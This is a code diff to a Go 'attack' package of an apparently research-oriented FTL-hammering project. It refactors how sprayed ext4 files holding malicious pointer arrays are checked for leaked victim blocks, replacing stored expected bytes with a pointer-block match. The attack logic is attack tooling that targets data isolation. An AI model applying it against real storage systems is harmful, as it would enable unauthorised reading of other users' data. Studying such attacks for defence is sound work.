@@ -1,7 +1,6 @@
 package attack
 
 import (
-	"bytes"
 	"fmt"
 
 	"ftlhammer/internal/ext4"
@@ -30,15 +29,13 @@ type Sprayer struct {
 	suspects map[string]bool
 }
 
-// SprayFile records one sprayed file and the content its probe block is
-// expected to return while the translation is intact.
+// SprayFile records one sprayed file. While its translation is intact,
+// its probe block reads back as the pointer array over Targets.
 type SprayFile struct {
 	Path string
 	// Targets are the victim filesystem blocks the malicious pointer
 	// array references.
 	Targets []uint32
-	// Expected is the data-block content written (the pointer array).
-	Expected []byte
 	// IndirectFSBlock is the filesystem block holding the file's real
 	// single-indirect block — whose LBA translation the attack wants
 	// flipped.
@@ -145,7 +142,6 @@ func (s *Sprayer) sprayOne(path string, targets []uint32) (SprayFile, error) {
 	return SprayFile{
 		Path:            path,
 		Targets:         targets,
-		Expected:        block,
 		IndirectFSBlock: ind,
 	}, nil
 }
@@ -178,7 +174,7 @@ func (s *Sprayer) Scan() ([]Leak, error) {
 			s.suspects[sf.Path] = true
 			continue
 		}
-		if !bytes.Equal(buf, sf.Expected) {
+		if !matchesPointerBlock(buf, sf.Targets) {
 			s.suspects[sf.Path] = true
 			leaks = append(leaks, Leak{File: sf, Probe: append([]byte(nil), buf...)})
 		}
@@ -215,6 +211,7 @@ func (s *Sprayer) Respray(count, perFile int, targetStart uint32) (int, error) {
 	old := s.files
 	s.files = nil
 	created, err := s.Spray(count, perFile, targetStart)
+	probe := make([]byte, ext4.BlockSize)
 	for _, sf := range old {
 		// Never unlink a suspect: freeing blocks through a redirected
 		// indirect chain would release whatever the malicious pointer
@@ -225,8 +222,7 @@ func (s *Sprayer) Respray(count, perFile int, targetStart uint32) (int, error) {
 		// Re-verify cheaply right before the unlink: a flip since the
 		// last scan turns this file into a suspect too.
 		if f, oerr := s.FS.Open(sf.Path, s.Cred, false); oerr == nil {
-			probe := make([]byte, ext4.BlockSize)
-			if n, rerr := f.ReadAt(probe, ProbeOffset); rerr != nil || n != len(probe) || !bytes.Equal(probe, sf.Expected) {
+			if n, rerr := f.ReadAt(probe, ProbeOffset); rerr != nil || n != len(probe) || !matchesPointerBlock(probe, sf.Targets) {
 				if s.suspects == nil {
 					s.suspects = make(map[string]bool)
 				}
